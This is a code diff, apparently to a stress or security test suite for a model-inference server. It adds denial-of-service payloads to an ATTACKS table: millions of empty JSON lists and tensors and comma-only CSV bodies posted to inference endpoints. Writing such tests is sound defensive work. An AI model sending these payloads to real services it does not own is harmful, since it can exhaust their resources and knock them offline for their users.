@@ -142,6 +142,17 @@ def wide_tensors(client: Client) -> None:
     client.post("/v2/models/model/infer", of_wide_tensors())
 
 
+@functools.cache
+def _of_empty_lists(name: str) -> bytes:
+    tensor = {"name": name, "shape": [10_000], "datatype": "BYTES", "data": [[]] * (BODY // 4)}
+    return json.dumps({"inputs": [tensor]}, separators=(",", ":")).encode()
+
+
+def empty_lists(client: Client) -> None:
+    client.post("/v2/models/model/infer", _of_empty_lists(next(iter(client.row))))
+    client.post("/v2/models/model/infer", b'{"inputs":[{},' + b"{}," * 4_999_999 + b"{}]}")
+
+
 def empty_rows(client: Client) -> None:
     client.post("/predict", b'{"instances":[' + b"{}," * 4_999_999 + b"{}]}")
 
@@ -154,6 +165,7 @@ def nested(client: Client) -> None:
 def lines_of_csv(client: Client) -> None:
     client.post("/invocations", b"\n" * BODY, "text/csv")
     client.post("/invocations", b"1,\n" * (BODY // 3), "text/csv")
+    client.post("/invocations", b"," * BODY, "text/csv")
 
 
 def grpc_values(client: Client) -> None:
@@ -291,9 +303,10 @@ def _of_large_images(count: int, kind: str = "WEBP", side: int = 10_000) -> byte
 ATTACKS: dict[str, Callable[[Client], None]] = {
     "20,000 unknown V2 tensors": unknown_tensors,
     "V2 tensors of 10,000 rows": wide_tensors,
+    "V2: 4 million empty lists, 5 million tensors": empty_lists,
     "5 million empty rows": empty_rows,
     "JSON nested a million deep": nested,
-    "15 million lines of CSV": lines_of_csv,
+    "15 million lines or fields of CSV": lines_of_csv,
     "gRPC: 15 million values": grpc_values,
     "gRPC: 7 million empty parts": grpc_parts,
     "gRPC: 15 MB without the token": grpc_without_token,
